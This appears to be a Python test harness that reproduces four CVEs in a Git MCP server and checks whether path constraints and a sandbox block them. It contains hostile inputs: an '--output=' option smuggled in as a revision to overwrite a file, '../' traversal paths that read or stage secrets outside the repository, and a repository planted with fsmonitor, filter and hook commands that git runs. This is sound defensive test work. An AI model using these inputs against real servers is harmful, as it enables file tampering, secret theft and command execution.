"""The reference Git server at four versions: repositories elsewhere, options for arguments, files beside, and what lies in a repository."""

import subprocess

from attack import Attack, Stdio, program, python
from lab import Lab
from session import Session

# Names of branches and commits, and what is before or after them; no option.
REVISION = "[A-Za-z0-9_][A-Za-z0-9_./~^@{}-]*"


def prepare(lab: Lab) -> None:
    lab.repository("inside/repository", "Begin")
    lab.repository("elsewhere", f"Say {lab.secret}")
    lab.write("secret.txt", lab.secret)
    lab.write("victim.txt", "untouched")


def constraints(lab: Lab) -> list[dict]:
    return [
        {"at": "/repo_path", "required": True, "path": {"roots": [str(lab.inside)]}},
        {"at": "/files/*", "path": {"roots": [str(lab.inside / "repository")], "relative": True}},
        *({"at": f"/{name}", "pattern": REVISION} for name in ("target", "revision", "branch_name", "base_branch")),
    ]


def sandbox(lab: Lab) -> dict:
    return {"write": [str(lab.inside)], "exec": [program("git")]}


def serving(version: str):
    def server(lab: Lab) -> Stdio:
        # The agent's identity, as Git wants one; nothing of the host's own configuration.
        name = {"GIT_CONFIG_NOSYSTEM": "1", "HOME": str(lab.inside)}
        return python(f"git-{version}", "-m", "mcp_server_git", "--repository", str(lab.inside / "repository"), cwd=lab.inside, env=name)

    return server


async def ordinary(session: Session, lab: Lab) -> None:
    repository = str(lab.inside / "repository")
    await session.expect("Begin", "git_log", repo_path=repository)
    (lab.inside / "repository/new.md").write_text("new\n")
    await session.expect("new.md", "git_status", repo_path=repository)
    await session.call("git_add", repo_path=repository, files=["new.md"])
    await session.expect("+new", "git_diff_staged", repo_path=repository)
    await session.call("git_commit", repo_path=repository, message="Add a file")
    await session.expect("Add a file", "git_log", repo_path=repository)
    await session.call("git_create_branch", repo_path=repository, branch_name="next", base_branch="main")
    await session.expect("+new", "git_diff", repo_path=repository, target="HEAD~1")
    await session.expect("Add a file", "git_show", repo_path=repository, revision="HEAD")


# === CVE-2025-68143 ===


async def initialises_anywhere(session: Session, lab: Lab) -> None:
    await session.attempt("git_init", repo_path=str(lab.folder / "anywhere"))


async def ordinary_with_init(session: Session, lab: Lab) -> None:
    await ordinary(session, lab)
    await session.call("git_init", repo_path=str(lab.inside / "another"))
    if not (lab.inside / "another/.git").is_dir():
        raise AssertionError("git_init made no repository")


# === CVE-2025-68144 ===


async def diffs_into_a_file(session: Session, lab: Lab) -> None:
    repository = str(lab.inside / "repository")
    (lab.inside / "repository/notes.md").write_text("changed\n")
    for option in ("--output=", "--outpu="):
        await session.attempt("git_diff", repo_path=repository, target=f"{option}{lab.folder}/victim.txt")
    await session.attempt("git_checkout", repo_path=repository, branch_name="--detach")


# === CVE-2025-68145 ===


async def reads_another_repository(session: Session, lab: Lab) -> None:
    elsewhere = str(lab.folder / "elsewhere")
    await session.attempt("git_log", repo_path=elsewhere)
    await session.attempt("git_show", repo_path=elsewhere, revision="HEAD")
    await session.attempt("git_log", repo_path=f"{lab.inside}/../elsewhere")


# === CVE-2026-27735 ===


async def stages_a_file_outside(session: Session, lab: Lab) -> None:
    repository = str(lab.inside / "repository")
    await session.attempt("git_add", repo_path=repository, files=["../../secret.txt"])
    await session.attempt("git_commit", repo_path=repository, message="Add it")
    await session.attempt("git_show", repo_path=repository, revision="HEAD")


def secret_in_repository(session: Session, lab: Lab) -> bool:
    """Whether any object of the repository holds it, committed or not: whoever can push has it."""
    git = ["git", "-C", str(lab.inside / "repository"), "cat-file", "--batch-all-objects", "--batch"]
    objects = subprocess.run(git, check=True, capture_output=True).stdout
    return session.heard_of(lab.secret) or lab.secret.encode() in objects


# === Commands in a repository ===


def prepare_planted(lab: Lab) -> None:
    """A repository as it comes in an archive, or by a server that writes files: its configuration names commands."""
    prepare(lab)
    planted = lab.repository("inside/planted", "Begin")
    script = lab.write("inside/planted/clean", f"#!/bin/sh\necho script >>{lab.folder}/mark\necho script >>{lab.inside}/mark\ncat\n")
    script.chmod(0o755)
    shell = f"echo shell >>{lab.folder}/mark; echo shell >>{lab.inside}/mark"
    (planted / ".gitattributes").write_text("*.md filter=planted\n")
    with (planted / ".git/config").open("a") as config:
        config.write(f'[core]\n\tfsmonitor = "{shell}"\n[filter "planted"]\n\tclean = {script}\n')
    hook = planted / ".git/hooks/post-index-change"
    hook.write_text(f"#!/bin/sh\n{shell}\n")
    hook.chmod(0o755)


async def uses_planted_repository(session: Session, lab: Lab) -> None:
    planted = lab.inside / "planted"
    (planted / "more.md").write_text("more\n")
    await session.attempt("git_status", repo_path=str(planted))
    await session.attempt("git_add", repo_path=str(planted), files=["more.md"])
    await session.attempt("git_add", repo_path=str(planted), files=["."])
    await session.attempt("git_commit", repo_path=str(planted), message="Add it")


def command_ran(_: Session, lab: Lab) -> bool:
    return (lab.folder / "mark").exists() or (lab.inside / "mark").exists()


def attack(version: str, **fields) -> Attack:
    return Attack(
        **{
            "package": f"mcp-server-git=={version}",
            "prepare": prepare,
            "server": serving(version),
            "ordinary": ordinary,
            "constraints": constraints,
            "sandbox": sandbox,
            "needs": (f"git-{version}",),
            **fields,
        }
    )


ATTACKS = (
    attack(
        "2025.7.1",
        name="git-init",
        ids="CVE-2025-68143",
        what="makes a repository anywhere",
        ordinary=ordinary_with_init,
        attack=initialises_anywhere,
        happened=lambda _, lab: (lab.folder / "anywhere").exists(),
    ),
    attack(
        "2025.9.25",
        name="git-diff-output",
        ids="CVE-2025-68144",
        what="gives an option for a revision, which overwrites a file anywhere",
        attack=diffs_into_a_file,
        happened=lambda _, lab: (lab.folder / "victim.txt").read_text() != "untouched",
    ),
    attack(
        "2025.9.25",
        name="git-other-repository",
        ids="CVE-2025-68145",
        what="reads a repository that is not the one that the server is for",
        attack=reads_another_repository,
        happened=lambda session, lab: session.heard_of(lab.secret),
    ),
    attack(
        "2025.12.18",
        name="git-add-outside",
        ids="CVE-2026-27735",
        what="stages a file that is not in the repository",
        attack=stages_a_file_outside,
        happened=secret_in_repository,
    ),
    attack(
        "2025.9.25",
        name="git-planted-commands",
        ids="used with CVE-2025-68143 to -68145",
        what="works in a repository whose configuration and hooks name commands",
        prepare=prepare_planted,
        attack=uses_planted_repository,
        happened=command_ran,
        no_constraint="the calls are ordinary ones; what is bad lies in the repository",
    ),
)
